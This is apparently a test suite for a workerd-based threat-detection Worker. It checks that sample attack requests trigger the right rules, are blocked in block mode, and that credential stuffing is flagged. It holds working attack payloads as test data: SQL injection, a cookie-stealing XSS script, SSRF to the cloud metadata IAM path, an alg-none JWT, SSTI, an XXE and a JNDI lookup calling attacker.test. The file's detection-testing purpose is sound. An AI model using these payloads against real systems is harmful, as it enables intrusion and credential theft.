// Threat rules in real workerd: one event per attack class with the right id, matching requests
// answered at the edge in block mode, benign requests (and their bodies) reaching the origin
// unchanged.
import { test } from "node:test";
import assert from "node:assert/strict";
import { start, waitFor, events, accepted, metrics, makeConfig } from "./lib/harness.mjs";

const ALG_NONE = "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.";

const threatConfig = (action) =>
  makeConfig([], {}, {
    threat_rules: [
      { id: "SQLInjection", action }, { id: "XSS", action }, { id: "SSRF", action },
      { id: "WeakAuthentication", action },
      { id: "SSTI", action }, { id: "XXE", action }, { id: "JNDIInjection", action },
      { id: "OpenRedirect", action }, { id: "SensitivePathProbe", action },
      { id: "ParamEnumeration", distinct: 5, window_secs: 60, action, block_secs: 60 },
    ],
  });

const attacks = [
  { ip: "198.51.100.1", id: "SQLInjection", path: "/ok/orders?id=1%27%20OR%201%3D1--", init: {} },
  {
    ip: "198.51.100.2", id: "XSS", path: "/ok/comments",
    init: {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ post: 7, text: "nice <script>alert(document.cookie)</script>" }),
    },
  },
  { ip: "198.51.100.3", id: "SSRF", path: "/ok/orders", init: { headers: { "x-callback-url": "http://169.254.169.254/latest/meta-data/iam/" } } },
  { ip: "198.51.100.4", id: "WeakAuthentication", path: "/ok/orders", init: { headers: { authorization: ALG_NONE } } },
  { ip: "198.51.100.11", id: "SSTI", path: "/ok/orders?name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D", init: {} },
  {
    ip: "198.51.100.12", id: "XXE", path: "/ok/comments",
    init: {
      method: "POST",
      headers: { "content-type": "application/xml" },
      body: '<?xml version="1.0"?><!DOCTYPE c SYSTEM "http://attacker.test/x.dtd"><c>1</c>',
    },
  },
  { ip: "198.51.100.13", id: "JNDIInjection", path: "/ok/orders", init: { headers: { "user-agent": "${${lower:j}ndi:ldap://attacker.test/a}" } } },
  { ip: "198.51.100.14", id: "OpenRedirect", path: "/ok/orders?next=%2F%5Cattacker.test%2F", init: {} },
  { ip: "198.51.100.15", id: "SensitivePathProbe", path: "/ok/actuator/env", init: {} },
];

const benignBody = JSON.stringify({ text: "<p>Drop shipping from <b>1 to 10</b>; see https://cdn.example.com/a.png</p>" });

async function sendBenign(w) {
  return [
    (await w.send("/ok/orders?q=O%27Brien%20select%20union%20station", "198.51.100.9")).status,
    (await w.send("/ok/comments", "198.51.100.9", { method: "POST", headers: { "content-type": "application/json" }, body: benignBody })).status,
  ];
}

test("each attack raises exactly one event of its rule; benign requests and bodies reach the origin unchanged", async () => {
  const w = await start(threatConfig("alert"));
  try {
    for (const a of attacks) {
      // Twice: the second match falls in the cooldown.
      assert.equal((await w.send(a.path, a.ip, a.init)).status, 200, a.id);
      assert.equal((await w.send(a.path, a.ip, a.init)).status, 200, a.id);
    }
    // The XSS body reached the origin whole, though the Worker read a copy of it.
    assert.ok(w.originCalls.some((c) => c.body.includes("<script>alert(document.cookie)</script>")));
    for (const id of [1, 2, 3, 3, 4, 5]) assert.equal((await w.send(`/ok/orders/${id}`, "198.51.100.5")).status, 200);
    assert.deepEqual(await sendBenign(w), [200, 200]);
    assert.ok(w.originCalls.some((c) => c.body === benignBody));
    const expected = attacks.length + 1;
    const evs = await waitFor(() => events(w.posts).length >= expected && events(w.posts), `${expected} events`, 20000);
    const m = await waitFor(async () => {
      const m = await metrics(w.mf);
      return m.threat_suppressed === attacks.length && m;
    }, "the suppressed matches");
    assert.equal(events(w.posts).length, expected);
    const got = evs.map((e) => [e.filterId, e.actor, e.eventType]).sort();
    const want = attacks
      .map((a) => [a.id, a.ip, "SINGLE"])
      .concat([["ParamEnumeration", "198.51.100.5", "AGGREGATED"]])
      .sort();
    assert.deepEqual(got, want);
    for (const post of accepted(w.posts)) {
      const ids = new Set(JSON.parse(post.body).maliciousEvents.map((e) => e.filterId));
      assert.equal(ids.size, 1, "one filter per POST");
    }
    const xss = evs.find((e) => e.filterId === "XSS");
    const orig = JSON.parse(xss.maliciousPayloadsResponses[0].orig);
    assert.equal(orig.threat.part, "body");
    assert.equal(xss.subCategory, "XSS");
    assert.ok(!JSON.stringify(evs).includes("eyJhbGciOiJub25lIn0"), "the token never leaves the Worker");
    assert.equal(m.threat_blocked, 0);
  } finally {
    await w.mf.dispose();
  }
});

test("block mode answers matching requests before the origin", async () => {
  const w = await start(threatConfig("block"));
  try {
    for (const a of attacks) {
      const before = w.originCalls.length;
      assert.equal((await w.send(a.path, a.ip, a.init)).status, 403, a.id);
      assert.equal(w.originCalls.length, before, `${a.id} reached the origin`);
    }
    const before = w.originCalls.length;
    assert.deepEqual(await sendBenign(w), [200, 200]);
    assert.equal(w.originCalls.length, before + 2);
    for (let id = 1; id <= 5; id++) assert.equal((await w.send(`/ok/orders/${id}`, "198.51.100.5")).status, 200);
    await waitFor(async () => (await w.send("/ok/orders/1", "198.51.100.5")).status === 429, "the enumerating actor blocked", 15000);
    await waitFor(() => events(w.posts).length >= attacks.length + 1 && true, "every event", 20000);
  } finally {
    await w.mf.dispose();
  }
});

test("rules that read responses: an attack answered with its effect is a successful exploit, a stack trace a SecurityMisconfig", async () => {
  const w = await start(makeConfig([], {}, {
    threat_rules: [
      // The query only: the test's x-test-body header carries the leak the origin answers.
      { id: "SQLInjection", parts: ["query"], inspect_response: true },
      { id: "SecurityMisconfig" },
    ],
  }), { bindings: { ACTORWATCH_TEST_COUNTS_FLUSH_MS: "1000" } });
  const mysql = "<b>Warning</b>: You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version";
  const trace = "java.lang.IllegalStateException: closed\n\tat com.acme.Orders.find(Orders.java:42)\n";
  const answer = (status, body) => ({ headers: { "x-test-status": String(status), "x-test-body": encodeURIComponent(body) } });
  try {
    const sqli = "/ok/search?q=1%27%20OR%201%3D1--";
    // The client gets the origin's body whole while the Worker reads its teed copy.
    const leaked = await w.send(sqli, "198.51.100.71", answer(200, mysql));
    assert.equal(leaked.status, 200);
    assert.equal(await leaked.text(), mysql);
    await (await w.send(sqli, "198.51.100.72", answer(200, '{"results":[]}'))).text();
    await (await w.send("/ok/crash", "198.51.100.73", answer(500, trace))).text();
    await (await w.send("/ok/report", "198.51.100.73", answer(500, '{"error":"internal"}'))).text();
    // Benign: its response would look like a leak, but nothing matched the request.
    await (await w.send("/ok/search?q=O%27Brien", "198.51.100.74", answer(200, mysql))).text();
    const evs = await waitFor(() => events(w.posts).length >= 3 && events(w.posts), "3 events", 20000);
    const got = evs.map((e) => [e.actor, e.filterId, e.successfulExploit ?? null, e.severity]).sort();
    assert.deepEqual(got, [
      ["198.51.100.71", "SQLInjection", true, "HIGH"],
      ["198.51.100.72", "SQLInjection", false, "MEDIUM"],
      ["198.51.100.73", "SecurityMisconfig", null, "MEDIUM"],
    ]);
    // The 500 without a trace records nothing: its counts reach /metrics with the flush.
    const m = await waitFor(async () => {
      const m = await metrics(w.mf);
      return m.responses_inspected === 4 && m.responses === 5 && m;
    }, "4 responses read (the two matches, the two 500s) of 5");
    assert.equal(m.threat_exploits, 1);
    assert.equal(events(w.posts).length, 3);
  } finally {
    await w.mf.dispose();
  }
});

test("a credential stuffer that finally succeeds: the flag, then the hit with successfulExploit", async () => {
  const w = await start(makeConfig([
    { id: "LOGIN_STUFFING", statuses: [401], threshold: 5, window_secs: 60, per: "actor_api", success_statuses: ["2xx"] },
  ]));
  const login = async (ip, status) =>
    (await (await w.send("/login", ip, { method: "POST", headers: { "x-test-status": String(status) }, body: "user=alice&password=x" })).text(), status);
  try {
    // A user who mistypes once: nothing.
    await login("198.51.100.90", 401);
    await login("198.51.100.90", 200);
    for (let i = 0; i < 5; i++) await login("198.51.100.91", 401);
    await waitFor(() => events(w.posts).length === 1, "the flag", 20000);
    await login("198.51.100.91", 200);
    const evs = await waitFor(() => events(w.posts).length >= 2 && events(w.posts), "the hit", 20000);
    const got = evs.map((e) => [e.actor, e.eventType, e.successfulExploit, e.severity, e.url]);
    assert.deepEqual(got, [
      ["198.51.100.91", "AGGREGATED", false, "MEDIUM", "/login"],
      ["198.51.100.91", "SINGLE", true, "HIGH", "/login"],
    ]);
  } finally {
    await w.mf.dispose();
  }
});
